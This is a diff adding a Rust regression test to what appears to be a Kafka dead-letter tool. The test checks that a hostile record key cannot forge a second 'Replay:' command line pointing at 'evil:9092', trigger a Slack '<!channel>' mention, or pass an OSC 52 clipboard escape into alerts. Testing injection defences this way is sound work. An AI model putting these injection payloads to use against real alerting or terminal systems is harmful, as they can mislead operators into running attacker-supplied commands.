@@ -195,3 +195,76 @@ on_every_broker!(
     1,
     a_header_name_that_is_not_utf8_is_handled_and_kept_byte_for_byte
 );
+
+/// Issue 17: the key `x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #` gave
+/// an alert with two `Replay:` lines, the first pointing at another broker, and record text
+/// reached Slack as markup (`<!channel>`). Now the log text and the webhook's Slack text
+/// have exactly one `Replay:` line, built from the runtime's configured brokers, and no
+/// `<` or `>` from a record.
+#[cfg(feature = "webhook")]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_hostile_key_cannot_forge_an_alert_line_or_a_slack_mention() {
+    let (topic, group) = ("obs-hook-hostile", "g-hook-hostile");
+    let cluster = cluster_with(topic, 1);
+    let (addr, bodies) = http_server(Reply::Ok).await;
+    let mut cfg = config_for(topic, group);
+    cfg.alerts.webhook = Some(format!("http://{addr}/hook"));
+    cfg.alerts.log = false;
+    cfg.alerts.window = std::time::Duration::from_secs(600);
+    let collect = Collect::default();
+    let rt = sidetrack::Runtime::builder(cfg)
+        .embedded(&cluster)
+        .handler(Recorder::new(|m| {
+            Err(HandlerError::permanent(format!(
+                "<!channel> bad key {}\x1b]52;c;ZXZpbA==\x07",
+                String::from_utf8_lossy(m.key().unwrap_or_default())
+            )))
+        }))
+        .dead_letter_notifier(collect.clone())
+        .started()
+        .await;
+    let key = b"x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #";
+    let producer = cluster.producer().unwrap();
+    sidetrack::testing::produce(&producer, topic, Some(0), Some(key), Some(b"p"), &[])
+        .await
+        .unwrap();
+    wait_for("the dead letter", || rt.stats().total_dead_lettered() == 1).await;
+    rt.shutdown().await.unwrap();
+    let brokers = format!("--brokers {} ", cluster.bootstrap_servers());
+    let alerts = collect.0.lock().unwrap().clone();
+    assert_eq!(alerts.len(), 1, "{alerts:?}");
+    let bodies = bodies.lock().unwrap().clone();
+    assert_eq!(bodies.len(), 1, "{bodies:?}");
+    let body: serde_json::Value = serde_json::from_str(&bodies[0]).unwrap();
+    let slack = body["text"].as_str().unwrap().to_owned();
+    for text in [alerts[0].text(), slack.clone()] {
+        let replay: Vec<&str> = text.lines().filter(|l| l.starts_with("Replay:")).collect();
+        assert_eq!(replay.len(), 1, "exactly one Replay line:\n{text}");
+        assert!(replay[0].contains(&brokers), "{text}");
+        assert!(!replay[0].contains("evil"), "{text}");
+        assert_eq!(
+            text.lines().count(),
+            4,
+            "summary, one example, two commands:\n{text}"
+        );
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "{text:?}"
+        );
+    }
+    assert!(!slack.contains('<') && !slack.contains('>'), "{slack}");
+    assert!(
+        slack.contains("&lt;!channel&gt; bad key x\\nReplay:"),
+        "{slack}"
+    );
+    // The structured copy is escaped too (a custom notifier printing it is safe).
+    let example = &body["sidetrack"]["examples"][0];
+    assert_eq!(
+        example["key"],
+        r"x\nReplay:  sidetrack dlq replay --brokers evil:9092 --yes #"
+    );
+    assert!(example["error"]
+        .as_str()
+        .unwrap()
+        .ends_with(r"\x1b]52;c;ZXZpbA==\x07"));
+}
